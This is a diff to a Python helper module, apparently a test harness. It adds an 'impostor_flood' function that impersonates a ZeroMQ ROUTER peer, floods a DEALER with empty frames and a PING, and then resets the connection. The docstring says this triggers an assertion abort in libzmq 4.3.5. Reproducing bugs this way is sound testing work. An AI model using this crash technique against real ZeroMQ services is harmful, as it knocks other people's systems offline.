@@ -167,8 +167,32 @@ def _zmtp_frame(body: bytes, command: bool = False) -> bytes:
     return bytes([0x04 if command else 0x00, len(body)]) + body
 
 
-def _zmtp_ready() -> bytes:
-    return _zmtp_frame(b"\x05READY" + bytes([11]) + b"Socket-Type" + struct.pack(">I", 6) + b"DEALER", command=True)
+def _zmtp_ready(socket_type: bytes = b"DEALER") -> bytes:
+    return _zmtp_frame(b"\x05READY" + bytes([11]) + b"Socket-Type" + struct.pack(">I", len(socket_type))
+                       + socket_type, command=True)
+
+
+def impostor_flood(listener: socket.socket, messages: int, timeout: float = 20) -> None:
+    """Stand in for a neighbour: take the next connection on ``listener`` (a peer's DEALER coming to what
+    it believes is its neighbour's ROUTER), complete the unauthenticated handshake as a ROUTER, send it
+    ``messages`` empty messages with a PING among them, and close with a reset. A DEALER never reads, so
+    with a receive high-water mark its input stops, the reset fails the connection, and libzmq 4.3.5's next
+    heartbeat on it aborts the process (``Assertion failed: !_io_error``)."""
+    listener.settimeout(timeout)
+    conn, _ = listener.accept()
+    with conn:
+        conn.settimeout(timeout)
+        conn.sendall(_ZMTP_GREETING)
+        greeting = b""
+        while len(greeting) < len(_ZMTP_GREETING):
+            more = conn.recv(len(_ZMTP_GREETING) - len(greeting))
+            if not more:
+                return
+            greeting += more
+        half = messages // 2
+        conn.sendall(_zmtp_ready(b"ROUTER") + _zmtp_frame(b"") * half + _zmtp_ping() + _zmtp_frame(b"") * half)
+        time.sleep(0.3)  # the burst is in before the reset
+        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
 
 
 def _zmtp_ping() -> bytes:
